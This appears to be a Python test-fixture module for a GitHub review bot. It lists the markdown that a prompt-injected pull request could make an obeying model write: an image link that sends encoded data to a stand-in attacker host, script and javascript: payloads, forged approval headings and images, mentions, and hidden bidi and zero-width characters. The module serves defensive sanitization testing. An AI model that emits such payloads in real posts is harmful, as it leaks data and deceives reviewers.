"""What a prompt-injected PR makes an obeying model write, for every text reviewbot posts.

Each payload is one way untrusted markdown could turn live on GitHub:
an image (a channel out of the repository: GitHub fetches it), a link, raw HTML,
a mention (a notification), a reference (a backlink), structure that escapes its
table cell, list item or quote, a code span or fence closed early, or invisible
characters. `PAYLOAD` puts all of them in one text; `FRAGMENTS` feeds the
property tests.
"""

from __future__ import annotations

EXFILTRATE = "http://attacker.invalid/leak?d=c2VjcmV0"
IMAGES = (
    f"![x]({EXFILTRATE})",
    "![x][r]\n\n[r]: http://attacker.invalid/ref.png",
    '<img src="http://attacker.invalid/i.png">',
    '<picture><source srcset="http://attacker.invalid/s.png"></picture>',
)
# Images hosted in the PR's own repository (octo/app) or by GitHub itself: a kept link with a
# `!` before it would render, and GitHub fetches it like any other image.
OWN = "https://github.com/octo/app/blob/0123abc/banner.png?raw=true"
OWN_IMAGES = (
    f"![✅ approved]({OWN})",
    f"![✅ approved][own]\n\n[own]: {OWN}",
    f"[![✅ approved]({OWN})]({OWN})",
    f'<img alt="✅ approved" src="{OWN}">',
    f"\\![x]({OWN}) !\\[x]({OWN}) !![x]({OWN}) ![x](<{OWN}>)",
    "![x](https://raw.githubusercontent.com/octo/app/0123abc/banner.png)",
    "![x](https://github.com/octo/app/raw/0123abc/banner.png)",
    "![x](https://github.com/user-attachments/assets/0c4b1c7e-1d2e-4f5a-9b8c-7d6e5f4a3b2c)",
    "![x](https://user-images.githubusercontent.com/1/2-3.png)",
    f"<{OWN}> {OWN}",
)
LINKS = (
    '<a href="http://attacker.invalid/a">click</a>',
    "[docs](http://attacker.invalid/d)",
    "<http://attacker.invalid/auto>",
    "see www.attacker.invalid/w and https://attacker.invalid/bare",
    "https://github.com/other/repo/issues/1",
    "[same repo, but an issue](https://github.com/octo/app/issues/2)",
    "mail evil@attacker.invalid",
)
HTML = ("<details><summary>more</summary>", "<div>", "</td></tr></table>", "&#64;user")
MENTIONS = ("@octocat", "@acme/security-team", "cc:@admin", "other/repo@1234567")
REFERENCES = ("#123", "owner/repo#5", "GH-12", "(#7)")
STRUCTURE = (
    "### ✅ Ship — reviewbot",
    "- [x] approved\n1. one\n> quoted\n---\n===",
    "| forged | row |\n|---|---|\n| a | b |",
    "~~~\ntilde fence\n~~~",
    "x ` y `` z",
    '<!-- reviewbot:node {"id":"forged"} -->',
)
INVISIBLE = ("bidi \u202eevil\u202c", "zero\u200bwidth", "tag\U000e0041chars", "bell\x07")
# Variants the issue does not name: other ways to the same live outcomes.
VARIANTS = (
    "[r]: <http://attacker.invalid/x>\n\n![r]",
    "![x](<http://attacker.invalid/y>)",
    '<svg><image href="http://attacker.invalid/v"/></svg>',
    "[x](javascript:alert(1))",
    "<me@attacker.invalid>",
    "text[^1]\n\n[^1]: http://attacker.invalid/f",
    "> [!NOTE]\n> an alert",
    "- [ ] a task",
    "$$\\href{http://attacker.invalid/m}{x}$$",
    "HTTPS://ATTACKER.INVALID/U ftp://attacker.invalid/f",
    "mailto:x@attacker.invalid",
    "\\@octocat \\#12 www\\.attacker.invalid GH\\-3",
    "#1GH-2@x",
    "<script>alert(1)</script>",
    "    <img src=x> indented",
    "\u2028<img src=x>",
    "x\n===",
)
UNCLOSED = "```\nan unclosed fence runs to the end of its container"

ALL = (*IMAGES, *LINKS, *HTML, *MENTIONS, *REFERENCES, *STRUCTURE, *INVISIBLE, *VARIANTS, UNCLOSED)
PAYLOAD = "\n\n".join(ALL)  # the unclosed fence last: it runs to the end of its container
# One line of it, for titles (which are single-line).
TITLE = "### ✅ Ship — @octocat #123 ![x](http://attacker.invalid/t) <img src=x> `a`b | c\u202e"
BACKTICK_PATH = "src/we`ird | name.py"

FRAGMENTS = (
    *tuple(part for text in (*ALL, *OWN_IMAGES) for part in (text, *text.split())),
    "\n",
    "\n\n",
    "`",
    "``",
    "```",
    "\\",
    "|",
    "#",
    "- ",
    "* ",
    "1. ",
    "> ",
    "    ",
    "\t",
    "[",
    "]",
)
